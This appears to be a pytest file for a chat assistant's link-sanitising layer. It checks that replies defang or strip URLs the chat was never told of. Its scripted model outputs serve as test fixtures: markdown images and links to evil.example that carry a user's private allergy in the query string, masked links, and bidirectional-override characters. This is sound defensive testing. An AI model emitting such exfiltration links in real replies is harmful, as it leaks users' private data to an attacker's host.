"""Through ingest: a reply links only to what this chat was told of, and nothing in it is hidden or turned."""

import json
from dataclasses import replace

from tests.conftest import NewWorld
from tests.discord_support import COMMANDS, Town, adapter_for, outgoing, running
from tests.fakes.discord_server import FakeDiscord
from tests.fakes.model import calls
from tests.peek import Like
from tests.world import World

SECRET = "https://evil.example/?d=花生过敏"
ASIDE, NO_TOOL = "https://aside.example/x", "https://third.example/x"


async def test_a_secret_does_not_leave_by_a_link_and_what_was_named_stays(world: World) -> None:
    await world.say("记住我的博客是 https://blog.example/warm")
    world.model.script = lambda request: f"在 https://blog.example/warm ，图在这：![图]({SECRET}) 或 {SECRET}"
    await world.say("我的博客在哪")
    assert world.replies[-1] == "在 https://blog.example/warm ，图在这：图 (evil[.]example/…) 或 evil[.]example/…"
    assert [line["count"] for line in world.log.named("links_removed")] == [2]
    assert "evil.example" not in "\n".join(str(fields) for _, _, fields in world.log.lines)
    (kept,) = world.peek.events("text", text=Like("%evil%"))
    assert kept == (world.replies[-1],)
    # What nuan itself once wrote, in its log or in a call, names nothing.
    await world.say("再说一次")
    assert "evil.example" not in world.replies[-1]
    await world.say("看看 https://news.example/a?b=1&c=2 这个")
    world.model.script = lambda request: "[银行](https://news.example/a?b=1&amp;c=2)\u202e 在\u200b此"
    await world.say("链接再发我一下")
    assert world.replies[-1] == "银行 (https://news.example/a?b=1&amp;c=2) 在此"


async def test_a_call_of_the_model_s_own_names_nothing_and_an_operator_may_trust_a_domain(new_world: NewWorld) -> None:
    world = await new_world(speak={"links": ["python.org"]})
    asked = json.dumps({"query": SECRET}, ensure_ascii=False)
    world.model.script = lambda request: (
        calls(("memory_recall", asked))
        if request.prompt.messages[-1].role == "user"
        else f"见 {SECRET} 和 https://docs.python.org/3/"
    )
    await world.say("你还记得我对什么过敏吗")
    assert world.replies[-1] == "见 evil[.]example/… 和 https://docs.python.org/3/"


async def test_what_the_model_wrote_beside_a_call_or_a_tool_repeats_of_it_names_nothing(world: World) -> None:
    asked = json.dumps({"text": f"看 {ASIDE}", "when": "下午三点"}, ensure_ascii=False)
    said = replace(calls(("remind", asked), (NO_TOOL, "{}")), text=f"见 {SECRET}")
    world.model.script = lambda request: (
        said if request.prompt.messages[-1].role == "user" else f"{SECRET} {ASIDE} {NO_TOOL}"
    )
    await world.say("下午三点我要开会，你可别忘了告诉我")
    repeated = "".join(message.content for message in world.turns[-1] if message.role == "tool")
    assert ASIDE in repeated
    assert NO_TOOL in repeated
    assert world.replies[-1] == "evil[.]example/… aside[.]example/… third[.]example/…"


async def test_what_a_memory_holds_is_listed_without_masks_and_turned_text(world: World) -> None:
    await world.say("记住我的银行是[https://bank.example](https://evil.example/x)\u202e！")
    await world.say(".ai mem")
    told = world.replies[-1]
    assert "https://bank.example (https://evil.example/x)" in told
    assert "\u202e" not in "".join(world.replies)


async def test_nothing_unfolds_on_discord_neither_a_slash_answer_nor_an_edit() -> None:
    async with FakeDiscord() as server:
        town, scene = Town(server), adapter_for(server, commands=COMMANDS)
        async with running(server, scene):
            server.people.slash(town.hall, town.ann, "ai ctx")
            await scene.sink.until(lambda: len(scene.sink.stored) == 1)
            answer = outgoing(town.hall, "看 https://a.example/x。")
            await scene.adapter.send(replace(answer, via=scene.sink.stored[0].via, only_for=str(town.ann.id)))
            shown = await scene.adapter.show(replace(answer, outbox_id=2, text="…"))
            await scene.adapter.send(replace(answer, outbox_id=2, preview_id=shown))
        assert [one.content for one in server.ephemeral(town.ann) if one.content] == ["看 <https://a.example/x>。"]
        assert [(one.content, one.previews) for one in server.sent(town.hall)] == [("看 https://a.example/x。", False)]
        assert server.violations == []
